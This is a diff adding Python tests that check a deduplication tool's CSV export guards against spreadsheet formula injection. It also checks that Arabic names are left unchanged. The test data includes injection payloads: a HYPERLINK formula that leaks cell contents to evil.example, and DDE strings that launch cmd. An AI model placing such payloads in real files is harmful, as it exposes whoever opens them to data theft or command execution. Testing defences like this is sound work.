@@ -340,3 +340,51 @@ def test_documenters_confirmations_refine_the_model() -> None:
     row = engine.levels_from_labels(confirmed[0])
     assert [engine.COMPARISONS[c].levels[len(engine.COMPARISONS[c].levels) - 1 - row[c]] for c in range(5)] == list(confirmed[0].values())
     assert engine.levels_from_labels({"given_name": "a label from another version"})[0] == -1
+
+
+# --- CSV written for spreadsheets ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1"]
+
+
+def test_spreadsheet_safe_prefixes_formula_text_and_leaves_the_rest() -> None:
+    from tawthiq.dedupe.files import spreadsheet_safe
+
+    for text in FORMULAS + ["-3"]:  # text that looks like a negative number is prefixed too (OWASP): it came from outside
+        assert spreadsheet_safe(text) == "'" + text
+    for value in ["مصطفى محمد عجاج", "عبد الرحمن", "Ahmad al-Hamoud", "2024-03-05", "a=b", "", " =1", "'quoted"]:
+        assert spreadsheet_safe(value) == value
+    for number in (3, -3, -0.5, 12.5, 0):  # numbers tawthiq computes stay numbers, negative or not
+        assert spreadsheet_safe(number) == number and type(spreadsheet_safe(number)) is type(number)
+    assert spreadsheet_safe(None) is None and spreadsheet_safe(True) is True
+    # A carriage return: prefixed at the start, and written as a line feed (which the csv
+    # module quotes; a bare one it writes unquoted, breaking the row).
+    assert spreadsheet_safe("\r=1+1") == "'\n=1+1" and spreadsheet_safe("first\r\nsecond\rthird") == "first\nsecond\nthird"
+
+
+def test_pairs_csv_neutralises_formula_ids_and_keeps_arabic_ones() -> None:
+    from tawthiq.dedupe.files import write_pairs
+
+    out = io.StringIO()
+    write_pairs([MatchPair("=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1)", 0.99), MatchPair("مصطفى-١", "-7", 0.95),
+                 MatchPair("\r=1+1", "\t+1", 0.91)], out)
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert rows[0] == ["left_id", "right_id", "probability"]
+    assert rows[1] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "0.990000"]
+    assert rows[2] == ["مصطفى-١", "'-7", "0.950000"]
+    assert rows[3] == ["'\n=1+1", "'\t+1", "0.910000"] and len(rows) == 4
+
+
+def test_dedupe_command_out_file_has_no_formula_cells(tmp_path: Path) -> None:
+    """`tawthiq dedupe --out`: ids from a partner's file that a spreadsheet would run come out
+    with a leading quote; the Arabic id of the same person is as it was."""
+    rows = [{"rid": rid, "name": "مصطفى محمد عجاج", "dod": "2013-05-03", "town": "Darayya"}
+            for rid in ('=HYPERLINK("http://evil.example","x")', "@SUM(1)", "محمد-٢")]
+    left = write_csv(tmp_path / "left.csv", rows)
+    out = tmp_path / "pairs.csv"
+    result = CliRunner().invoke(cli, ["dedupe", str(left), "--id", "rid", "--field", "full_name=name", "--field", "date_of_death=dod",
+                                      "--field", "locality=town", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row[:2]][2:]
+    assert set(cells) == {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "محمد-٢"}
